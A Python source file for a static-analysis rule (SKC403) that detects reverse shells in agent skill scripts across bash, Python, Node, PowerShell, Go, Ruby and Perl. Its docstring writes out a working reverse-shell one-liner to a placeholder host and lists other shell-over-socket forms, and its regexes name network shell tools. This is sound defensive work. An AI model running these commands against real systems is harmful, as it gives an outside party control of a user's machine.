"""SKC403 reverse-shell: A script connects a shell to a remote host.

## What it does
Finds the classic reverse-shell shapes: `bash -i >& /dev/tcp/HOST/PORT 0>&1` (any
redirection to a remote `/dev/tcp`, also in a Dockerfile `CMD` or `HEALTHCHECK`),
`nc -e /bin/sh`, `ncat --exec`, `socat … exec:`, a `mkfifo` pipe through `nc` into a
shell, `openssl s_client` (netcat over TLS) in a pipeline with a shell that reads its
input (also through Makefile variables such as `SC = $(OPENSSL) s_client`), Python that connects a socket and then `os.dup2`s it or spawns a shell
(`pty.spawn`, `subprocess` with the socket's descriptor as stdin/stdout, however it got
there, `getattr(os, "dup" + "2")` included), Node `net` sockets piped into a spawned shell, PowerShell `TCPClient` loops
that `Invoke-Expression` what they read, and Go, Ruby or Perl that opens a socket
(`net.Dial`, `TCPSocket.new`, `IO::Socket::INET`) and hands a shell's standard streams to
it (`sh.Stdin, sh.Stdout = c, c`, `open(STDIN, ">&…")`, `$stdin.reopen`).

## Why is this bad?
It hands an interactive shell on the user's machine, with the agent's permissions, to
whoever listens at the other end. No skill needs this.

## Example
```bash
bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
```

## Use instead
```bash
# Nothing: remove it. For remote work use ssh to a host the user configured.
```
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from skcc.analyzers.rules._scan import line_at, once, report, units
from skcc.analyzers.scan.facts import SHELLS
from skcc.analyzers.scan.patterns import unglue
from skcc.diagnostics import Confidence, Diagnostic, Severity
from skcc.regex_cache import compiled
from skcc.rules import Rule

RULE = Rule(
    code="SKC403",
    name="reverse-shell",
    severity=Severity.ERROR,
    summary="A script connects a shell to a remote host.",
    confidence=Confidence.HIGH,
    cwe=506,
)
HELP = "remove it; a skill never needs to give a remote host a shell on the user's machine"
# A /dev/tcp socket to another machine: a port probe of this one (127.0.0.1) gives nobody
# a shell.
# (`*/dev/tcp/*` is a search pattern, not a socket: a host follows a real one)
REMOTE_DEV_TCP = compiled(r"(?<!\*)/dev/(?:tcp|udp)/(?=[\w$\[{])"
                            r"(?!(?:127\.|localhost\b|0\.0\.0\.0\b|::1\b))")
# `sh -i >& X 0>&1` with X computed (a variable), so no /dev/tcp path can be seen.
INTERACTIVE_TO_ONE_PLACE = compiled(r"\s-i\s*>&\s*[\"']?\$\{?\w+\}?[\"']?\s+0>&1")
TEXT_TOOLS = frozenset({"grep", "egrep", "fgrep", "rg", "ag", "ack", "sed", "awk", "gawk",
                        "find", "select-string"})
SHELL_PATH = compiled(r"/bin/(ba|z|da)?sh\b|\bcmd(\.exe)?\b|powershell|\bpty\.spawn|"
                        r"['\"](ba|z)?sh['\"]")
PY_SOCKET = compiled(r"socket\.socket\(|create_connection\(|\.connect\(\s*\(")
# What a process's stdin/stdout is, followed through assignments, that makes it a socket.
PY_SOCKET_END = compiled(r"\.fileno\(\)|\.makefile\(|socket\.socket\(|create_connection\(|"
                           r"\.accept\(\)")
PY_REDIRECT = compiled(r"os\.dup2\(|pty\.spawn\(|stdin\s*=\s*\w*\.?(fileno|makefile)|"
                         r"stdin\s*=\s*s\b|stdout\s*=\s*s\b|"
                         r"""getattr\(\s*os\s*,\s*['"]dup2['"]""")  # `getattr(os, "dup" + "2")`
JS_SOCKET = compiled(r"net\.(connect|createConnection|Socket)\b|new\s+net\.Socket|"
                       r"\btls\.connect\b")
JS_SHELL = compiled(r"(spawn|exec)\w*\(\s*['\"`](/bin/)?(ba|z)?sh|(spawn|exec)\w*\(\s*['\"`]"
                      r"(cmd\.exe|powershell)")
# Languages read without a syntax tree (Go, Ruby, Perl): a socket, a shell, and the
# shell's standard streams handed to something, all in one file.
ANY_SOCKET = compiled(r"\bnet\.Dial(?:Timeout|TCP)?\(|\bTCPSocket\.(?:new|open)\b|"
                        r"IO::Socket::INET|\bsocket\s*\(\s*(?:my\s+)?[$*]?\w+\s*,\s*(?:PF|AF)_INET|"
                        r"\bfsockopen\s*\(|\bstream_socket_client\s*\(")
ANY_STDIO_WIRED = compiled(r"\.Stdin\s*(?:,\s*\w+\.Std(?:out|err)\s*)*=|\bopen\s*\(\s*"
                             r"\*?STD(?:IN|OUT|ERR)\s*,\s*['\"]?[<>+]*&|\$std(?:in|out|err)"
                             r"\.reopen\b|:in\s*=>|\[\s*:in\s*,\s*:out|\bin:\s*\w+\s*,\s*out:|"
                             r"\bproc_open\s*\(|"
                             r"\bdup2\s*\(")
PS_SHELL = compiled(r"Net\.Sockets\.TCPClient[\s\S]{0,600}?(iex|invoke-expression)\b", re.I)


def check(skill, context) -> Iterator[Diagnostic]:  # type: ignore[no-untyped-def]
    yield from once(_check(skill))


def _check(skill) -> Iterator[Diagnostic]:  # type: ignore[no-untyped-def]
    for facts in units(skill):
        unit = facts.unit
        for command in facts.commands:
            program, args, text = command.program, command.args, command.text
            # A /dev/tcp path as the text a search tool looks for is not a redirection.
            if REMOTE_DEV_TCP.search(text) and program not in TEXT_TOOLS:
                yield report(RULE, unit, command.line, "the shell's input or output is "
                             "redirected to a /dev/tcp socket", HELP)
            elif program in ("nc", "ncat", "netcat", "nc.traditional") and any(
                    a in ("-e", "-c", "--exec", "--sh-exec", "--lua-exec") for a in args):
                yield report(RULE, unit, command.line, f"`{program}` runs a program for the "
                             "remote end", HELP)
            elif program == "socat" and any(re.match(r"(exec|system):", a, re.I)
                                            for a in args):
                yield report(RULE, unit, command.line, "`socat` connects a program to a "
                             "network address", HELP)
            elif program in ("nc", "ncat", "netcat", "telnet") and \
                    any(c.program in ("sh", "bash", "zsh") for c in facts.pipeline(command)) \
                    or _tls_client(command) and any(
                        c.program in SHELLS and not [a for a in c.args if a[:1] != "-"]
                        for c in facts.pipeline(command)):
                yield report(RULE, unit, command.line, "`openssl s_client` and a shell "
                             "share a pipeline (a reverse shell over TLS)" if program ==
                             "openssl" else f"`{program}` output is fed to a shell", HELP)
        for m in INTERACTIVE_TO_ONE_PLACE.finditer(unit.text):
            if not REMOTE_DEV_TCP.search(m.group()) and "/dev/tcp/127." not in m.group():
                line = line_at(unit, m.start())
                yield report(RULE, unit, line, "an interactive shell's input and output are "
                             "both sent to one place (the reverse-shell shape)", HELP)
        for access in facts.accesses:
            # bash opens /dev/tcp/HOST/PORT only in a redirection; as an argument it is a
            # path like any other (a pattern for grep, a file for cat that does not exist).
            if access.how == "redirect" and REMOTE_DEV_TCP.match(access.target):
                yield report(RULE, unit, access.line, "a redirection goes to a /dev/tcp "
                             "socket", HELP)
        calls = "\n".join(c.text for c in facts.calls)
        if PY_SOCKET.search(calls) and (PY_REDIRECT.search(unglue(calls)) or _socket_as_stdio(
                facts)) and (SHELL_PATH.search(calls + unit.text) or
                             SHELL_PATH.search(unglue(unit.text))):  # "/bin/" + "sh"
            line = next(c.line for c in facts.calls if PY_SOCKET.search(c.text))
            yield report(RULE, unit, line, "a socket is connected and a shell is attached "
                         "to it", HELP)
        elif JS_SOCKET.search(calls) and JS_SHELL.search(calls):
            line = next(c.line for c in facts.calls if JS_SOCKET.search(c.text))
            yield report(RULE, unit, line, "a network socket is connected to a spawned "
                         "shell", HELP)
        if unit.language not in ("python", "javascript", "typescript", "bash", "sql") and \
                (m := ANY_SOCKET.search(unit.text)) and ANY_STDIO_WIRED.search(unit.text) and \
                SHELL_PATH.search(unit.text):
            yield report(RULE, unit, line_at(unit, m.start()), "a socket is opened and a "
                         "shell's input and output are handed to it", HELP)
        if unit.language in ("powershell", "bash", "batch"):
            m = PS_SHELL.search(unit.text)
            if m:
                line = line_at(unit, m.start())
                yield report(RULE, unit, line, "a TCP client runs what it receives with "
                             "Invoke-Expression", HELP)


def _tls_client(command) -> bool:  # type: ignore[no-untyped-def]
    """`openssl s_client -connect host:port`: netcat over TLS (the encrypted reverse shell
    `s_client … | sh | s_client …`)."""
    return command.program == "openssl" and "s_client" in command.args and \
        any(a in ("-connect", "-quiet") for a in command.args)


def _socket_as_stdio(facts) -> bool:  # type: ignore[no-untyped-def]
    """`fd = s.fileno(); subprocess.call([...], stdin=fd, stdout=fd)`: a process whose input
    or output is a socket, however the descriptor reached it."""
    return any(PY_SOCKET_END.search(facts.resolve(value))
               for call in facts.calls if call.language == "python"
               for key, value in call.kwargs if key in ("stdin", "stdout"))
